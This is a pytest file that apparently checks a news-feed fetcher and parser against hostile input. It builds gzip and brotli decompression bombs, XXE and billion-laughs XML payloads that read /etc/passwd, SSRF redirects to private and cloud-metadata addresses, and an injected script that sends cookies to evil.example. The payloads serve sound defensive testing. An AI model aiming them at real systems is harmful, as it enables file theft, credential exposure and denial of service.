"""Hostile input at the connectors: decompression bombs, XML entity attacks, SSRF redirects, scripts.

Bombs are served by a real ``http.server`` on loopback (private networks allowed for that server);
SSRF redirects start from a public address, so they go through ``httpx.MockTransport`` (no request may
ever reach the private target: the transport records every request it gets).
"""

from __future__ import annotations

import asyncio
import gzip
import threading
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import brotli
import httpx
import pytest
from prometheus_client import REGISTRY

from connectors.extract import ExtractionFailure, extract_article
from connectors.http import FetchResult, PoliteFetcher, is_blocked_ip
from connectors.kinds import FeedSource, ListingSource, ParseError, SitemapSource, strip_internal_subset
from connectors.sources import SourceEntry
from pipeline.settings import Settings

LIMIT = 1024 * 1024  # the fetchers below refuse bodies over 1 MiB (decoded)
BOMB_SIZE = 128 * 1024 * 1024  # what each bomb inflates to: 128 times the limit
ARABIC = "أكدت قيادة العمليات المشتركة انتهاء المهام القتالية لقوات التحالف الدولي في العراق. " * 6


def _gzip_bomb() -> bytes:
    """One gzip member inflating to BOMB_SIZE zero bytes (~130 KB on the wire)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (8 << 20)
    return b"".join(comp.compress(block) for _ in range(BOMB_SIZE // len(block))) + comp.flush()


def _brotli_bomb() -> bytes:
    comp = brotli.Compressor(quality=1)
    block = b"\0" * (8 << 20)
    return b"".join(comp.process(block) for _ in range(BOMB_SIZE // len(block))) + comp.finish()


class _Server:
    """A loopback HTTP server with canned routes: path -> (status, headers, body). Counts bytes sent."""

    def __init__(self) -> None:
        self.routes: dict[str, tuple[int, dict[str, str], bytes]] = {"/robots.txt": (404, {}, b"")}
        self.hits: dict[str, int] = {}
        self.sent: dict[str, int] = {}
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                server.hits[self.path] = server.hits.get(self.path, 0) + 1
                status, headers, body = server.routes.get(self.path, (404, {}, b"missing"))
                self.send_response(status)
                for key, value in headers.items():
                    if value:  # an empty value leaves the header out (the body then ends with the connection)
                        self.send_header(key, value)
                if "Content-Length" not in headers:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    for i in range(0, len(body), 65536):
                        self.wfile.write(body[i:i + 65536])
                        server.sent[self.path] = server.sent.get(self.path, 0) + len(body[i:i + 65536])
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up on purpose

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_port}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> _Server:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server() -> Iterator[_Server]:
    with _Server() as srv:
        yield srv


def _fetch(url: str, **kw) -> FetchResult:
    opts = dict(allow_private=True, min_delay=0, timeout=10, retries=0, max_bytes=LIMIT)
    opts.update(kw)

    async def go() -> FetchResult:
        async with PoliteFetcher(**opts) as fetcher:
            return await fetcher.fetch(url)

    return asyncio.run(go())


def _outcomes(outcome: str) -> float:
    return REGISTRY.get_sample_value("raqib_fetch_outcomes_total", {"outcome": outcome}) or 0.0


# decompression bombs -----------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["gzip", "br"])
def test_decompression_bomb_is_refused_without_inflating_it(server, encoding):
    bomb = _gzip_bomb() if encoding == "gzip" else _brotli_bomb()
    assert len(bomb) < LIMIT  # small on the wire: only decoding can tell
    server.routes["/bomb"] = (200, {"Content-Type": "application/rss+xml", "Content-Encoding": encoding}, bomb)
    before = _outcomes("too_large")
    tracemalloc.start()
    try:
        start = time.monotonic()
        result = _fetch(server.url + "/bomb")
        elapsed = time.monotonic() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.outcome == "too_large" and result.body == b"", result.error
    assert "decoded body over" in result.error
    assert _outcomes("too_large") == before + 1  # counted
    # Never more than a few times the limit in memory (httpx's own decoder held 150 MB / 1 GB here).
    assert peak < 8 * LIMIT, f"peak {peak / 1e6:.1f} MB while refusing a {BOMB_SIZE >> 20} MiB bomb"
    assert elapsed < 5
    assert server.sent["/bomb"] <= len(bomb)


@pytest.mark.parametrize("encoding", ["gzip", "br", "deflate", "gzip, br"])
def test_compressed_bodies_under_the_limit_are_decoded(server, encoding):
    feed = ("<rss version='2.0'><channel><title>أخبار</title>" + "<item><title>خبر</title>"
            "<link>http://news.example/a/1</link><description>" + ARABIC + "</description></item>"
            "</channel></rss>").encode()
    body = feed
    for name in [n.strip() for n in encoding.split(",")]:
        body = {"gzip": gzip.compress, "br": brotli.compress, "deflate": zlib.compress}[name](body)
    server.routes["/feed"] = (200, {"Content-Encoding": encoding}, body)
    result = _fetch(server.url + "/feed")
    assert result.outcome == "ok" and result.body == feed


def test_multi_member_gzip_bomb_and_unknown_encoding(server):
    member = gzip.compress(b"\0" * (2 << 20))
    server.routes["/members"] = (200, {"Content-Encoding": "gzip"}, member * 8)  # 16 MiB in 8 members
    server.routes["/small-members"] = (200, {"Content-Encoding": "gzip"}, gzip.compress(b"ab") * 3)
    server.routes["/zstd"] = (200, {"Content-Encoding": "zstd"}, b"\x28\xb5\x2f\xfd")
    server.routes["/broken"] = (200, {"Content-Encoding": "gzip"}, b"\x1f\x8bnot gzip at all")
    assert _fetch(server.url + "/members").outcome == "too_large"
    assert _fetch(server.url + "/small-members").body == b"ababab"
    unknown = _fetch(server.url + "/zstd")
    assert unknown.outcome == "error" and "unsupported Content-Encoding 'zstd'" in unknown.error
    broken = _fetch(server.url + "/broken")
    assert broken.outcome == "error" and "bad gzip body" in broken.error


def test_oversized_body_without_content_length_stops_reading_at_the_limit(server):
    server.routes["/huge"] = (200, {"Content-Length": ""}, b"x" * (64 * LIMIT))  # HTTP/1.0, no length
    result = _fetch(server.url + "/huge")
    assert result.outcome == "too_large" and result.body == b""
    time.sleep(0.2)
    # The client hung up at the limit: the server got nowhere near writing 64 MiB (socket buffers aside).
    assert server.sent.get("/huge", 0) < 16 * LIMIT


# XML entities ------------------------------------------------------------------------------------

XXE_RSS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<rss version="2.0"><channel><title>t</title>
<item><title>&xxe;</title><link>http://news.example/a/1</link><description>a &xxe; b</description></item>
</channel></rss>"""


def _laughs(root: str, one_line: bool) -> bytes:
    """Billion laughs: &lol9; is 10^9 'lol's. ``one_line`` defeats feedparser's line-based DOCTYPE filter."""
    decls = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)]
    sep = "" if one_line else "\n"
    return f'<?xml version="1.0"?>{sep}<!DOCTYPE {root} [{sep}{sep.join(decls)}{sep}]>\n'.encode()


def _feed_items(body: bytes, kind: str = "rss"):
    entry = SourceEntry(name="t", kind=kind, url="http://news.example/feed")
    reader = SitemapSource(entry) if kind == "sitemap" else FeedSource(entry)
    return reader.items(FetchResult(entry.url, entry.url, 200, "ok", body))


def _texts(items) -> str:
    return " ".join(f"{i.url} {i.title} {i.summary}" for i in items)


def test_xxe_feed_does_not_read_local_files():
    passwd = open("/etc/passwd", encoding="utf-8").read()
    first_line = passwd.split("\n", 1)[0]
    assert first_line  # the file exists and has content to leak
    for body in (XXE_RSS, XXE_RSS.replace(b"\n<!ENTITY", b"<!ENTITY")):
        items = _feed_items(body)
        assert [i.url for i in items] == ["http://news.example/a/1"]
        assert first_line not in _texts(items) and "root:" not in _texts(items)
    sitemap = (b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
               b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
               b"<url><loc>http://news.example/a/&xxe;</loc><lastmod>2021-10-30</lastmod></url></urlset>")
    assert "root:" not in _texts(_feed_items(sitemap, "sitemap"))


@pytest.mark.parametrize("one_line", [False, True])
def test_billion_laughs_feed_and_sitemap_do_not_expand(one_line):
    rss = _laughs("rss", one_line) + (b'<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;'
                                      b"</title><link>http://news.example/a/2</link>"
                                      b"<description>&lol5;</description></item></channel></rss>")
    atom = _laughs("feed", one_line) + (b'<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry>'
                                        b'<title>&lol9;</title><link href="http://news.example/a/3"/>'
                                        b"<id>x</id><updated>2021-10-30T10:00:00Z</updated></entry></feed>")
    sitemap = _laughs("urlset", one_line) + (b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                                             b"<url><loc>http://news.example/a/&lol9;</loc></url></urlset>")
    for body, kind, url in ((rss, "rss", "http://news.example/a/2"), (atom, "atom", "http://news.example/a/3"),
                            (sitemap, "sitemap", "http://news.example/a/")):
        start = time.monotonic()
        items = _feed_items(body, kind)
        elapsed = time.monotonic() - start
        assert elapsed < 0.5, f"{kind}: {elapsed:.2f}s (expat alone spent ~2.7 s expanding before the fix)"
        assert [i.url for i in items] == [url]
        assert "lollol" not in _texts(items) and len(_texts(items)) < 200


def test_strip_internal_subset_handles_quotes_comments_and_garbage():
    tricky = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//x//DTD//EN" "http://x/d.dtd" [\n'
              b'<!-- a comment with ]> and an apostrophe: don\'t -->\n'
              b'<!ENTITY a "value with ]> inside">\n<!ENTITY b \'&a;&a;\'>\n]>\n<rss version="2.0"/>')
    out = strip_internal_subset(tricky)
    assert out == b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//x//DTD//EN" "http://x/d.dtd" >\n<rss version="2.0"/>'
    plain = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x">\n<rss/>'
    assert strip_internal_subset(plain) == plain
    twice = b"<!DOCTYPE a [<!ENTITY x 'y'>]><!doctype b [<!ENTITY z 'w'>]><a/>"
    assert strip_internal_subset(twice) == b"<!DOCTYPE a ><!doctype b ><a/>"
    in_content = b'<rss><item><description><![CDATA[<!DOCTYPE x [ not closed]]></description></item></rss>'
    assert strip_internal_subset(in_content) == in_content
    with pytest.raises(ParseError, match="unterminated"):
        strip_internal_subset(b'<!DOCTYPE rss [<!ENTITY a "never closed>]><rss/>')


# SSRF --------------------------------------------------------------------------------------------

PRIVATE_TARGETS = [
    "http://127.0.0.1/admin", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.5/",
    "http://[::1]:8080/", "http://localhost:9200/_cat/indices", "http://0.0.0.0/", "http://192.168.1.1/",
    "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://[64:ff9b::7f00:1]/", "http://[2002:a00:1::]/",
]


@pytest.mark.parametrize("target", PRIVATE_TARGETS)
def test_redirect_to_a_private_address_is_refused(target):
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(str(request.url))
        if request.url.path == "/robots.txt":
            return httpx.Response(404)
        return httpx.Response(302, headers={"Location": target})

    async def go() -> FetchResult:
        async with PoliteFetcher(allow_private=False, min_delay=0, transport=httpx.MockTransport(handler)) as f:
            return await f.fetch("http://93.184.216.34/news/1")

    result = asyncio.run(go())
    assert result.outcome == "blocked_address", result
    assert result.final_url == target and "non-public address" in result.error
    assert all(u.startswith("http://93.184.216.34/") for u in seen)  # the private target was never asked


def test_private_network_policy_comes_from_settings(server, monkeypatch):
    server.routes["/page"] = (200, {}, b"hello")
    monkeypatch.delenv("RAQIB_ALLOW_PRIVATE_NETWORKS", raising=False)
    assert Settings().allow_private_networks is False

    async def go(settings: Settings, url: str) -> FetchResult:
        async with PoliteFetcher(settings, min_delay=0, retries=0) as f:
            return await f.fetch(url)

    blocked = asyncio.run(go(Settings(), server.url + "/page"))
    by_name = asyncio.run(go(Settings(), server.url.replace("127.0.0.1", "localhost") + "/page"))
    assert blocked.outcome == by_name.outcome == "blocked_address" and server.hits.get("/page", 0) == 0
    monkeypatch.setenv("RAQIB_ALLOW_PRIVATE_NETWORKS", "1")
    allowed = asyncio.run(go(Settings(), server.url + "/page"))
    assert allowed.outcome == "ok" and allowed.body == b"hello" and server.hits["/page"] == 1


def test_non_http_redirects_are_refused_even_with_private_networks_allowed(server):
    server.routes["/to-file"] = (302, {"Location": "file:///etc/passwd"}, b"")
    server.routes["/to-gopher"] = (302, {"Location": "gopher://127.0.0.1:70/"}, b"")
    for path in ("/to-file", "/to-gopher"):
        result = _fetch(server.url + path)
        assert result.outcome == "blocked_address" and "unsupported URL" in result.error and not result.body


def test_ipv6_forms_embedding_private_ipv4_are_blocked():
    for ip in ["64:ff9b::a00:1", "2002:c0a8:101::", "2001:0:4136:e378:8000:63bf:80ff:fffe", "::ffff:10.0.0.1"]:
        assert is_blocked_ip(ip), ip
    for ip in ["2606:4700:4700::1111", "8.8.8.8", "2a00:1450:4001:81b::200e"]:
        assert not is_blocked_ip(ip), ip


@pytest.mark.parametrize("ip", ["100.64.0.1", "100.100.100.200", "100.127.255.254", "192.0.0.9", "192.0.0.170",
                                "198.18.0.1", "192.0.2.1", "240.0.0.1", "255.255.255.255", "224.0.0.1", "ff02::1",
                                "2001:db8::1", "fd00:ec2::254", "::ffff:100.100.100.200", "64:ff9b::6464:64c8"])
def test_guard_uses_the_complete_notion_of_public_addresses(ip):
    assert is_blocked_ip(ip)


def test_link_local_and_metadata_stay_blocked_with_private_networks_allowed():
    for ip in ["169.254.169.254", "fe80::1", "100.100.100.200", "fd00:ec2::254", "::ffff:169.254.169.254", "0.0.0.0"]:
        assert is_blocked_ip(ip, allow_private=True), ip
    for ip in ["127.0.0.1", "10.1.2.3", "192.168.1.1", "::1", "fd12::1"]:  # test sites and local receivers
        assert is_blocked_ip(ip) and not is_blocked_ip(ip, allow_private=True), ip
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(str(request.url))
        return httpx.Response(404 if request.url.path == "/robots.txt" else 200, text="creds")

    async def go(url: str) -> FetchResult:
        async with PoliteFetcher(allow_private=True, min_delay=0, transport=httpx.MockTransport(handler)) as f:
            return await f.fetch(url)

    for url in ["http://169.254.169.254/latest/meta-data/", "http://100.100.100.200/latest/meta-data/"]:
        result = asyncio.run(go(url))
        assert result.outcome == "blocked_address" and not result.body, result
    assert seen == []


# scripts -----------------------------------------------------------------------------------------


def test_article_scripts_are_never_run_or_kept():
    html = f"""<html><head><title>انسحاب القوات</title>
<script>document.title = "PWNED-TITLE"; fetch("http://evil.example/steal?c=" + document.cookie);</script>
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "انسحاب القوات"}}</script>
</head><body onload="document.body.innerHTML='PWNED-ONLOAD'">
<article><h1>انسحاب القوات</h1>
<p>{ARABIC}</p>
<script>document.write("<p>PWNED-WRITE " + "نص محقون" + "</p>");</script>
<p onclick="alert('PWNED-CLICK')">{ARABIC}</p>
<img src="x" onerror="alert('PWNED-IMG')">
<noscript><p>PWNED-NOSCRIPT</p></noscript>
<iframe src="javascript:alert('PWNED-IFRAME')"></iframe>
<a href="javascript:alert('PWNED-LINK')">رابط</a>
</article></body></html>"""
    article = extract_article(html, "http://news.example/a/1")
    assert not isinstance(article, ExtractionFailure), article
    dumped = article.model_dump_json()
    assert "التحالف الدولي" in article.text
    for marker in ("PWNED", "document.", "fetch(", "alert(", "نص محقون", "javascript:"):
        assert marker not in dumped, marker
    listing = ListingSource(SourceEntry(name="l", kind="listing", url="http://news.example/"))
    page = (b'<html><body><a href="javascript:alert(1)//news/2021/10/x">x</a>'
            b'<a href="/news/2021/10/real-story">real</a></body></html>')
    found = listing.items(FetchResult("http://news.example/", "http://news.example/", 200, "ok", page))
    assert [i.url for i in found] == ["http://news.example/news/2021/10/real-story"]


@pytest.mark.parametrize("home", [b"   ", b"<!-- nothing -->", b'<?xml version="1.0" encoding="utf-8"?><html/>',
                                  b'<html><head><link rel="alternate" type="application/rss+xml" href="http://[::1">'
                                  b'<link rel="alternate" type="application/rss+xml" href="javascript:alert(1)">'
                                  b"</head></html>"])
def test_discover_survives_hostile_home_pages(server, home):
    from connectors.discover import discover_async

    server.routes["/"] = (200, {"Content-Type": "text/html"}, home)
    server.routes["/robots.txt"] = (200, {}, b"Sitemap: /news.xml\nSitemap: javascript:alert(1)\nSitemap: http://[::1\n")

    async def go():
        async with PoliteFetcher(allow_private=True, min_delay=0, retries=0) as fetcher:
            return await discover_async(server.url + "/", fetcher, probe=False)

    assert [(e["kind"], e["url"]) for e in asyncio.run(go())] == [("sitemap", server.url + "/news.xml")]
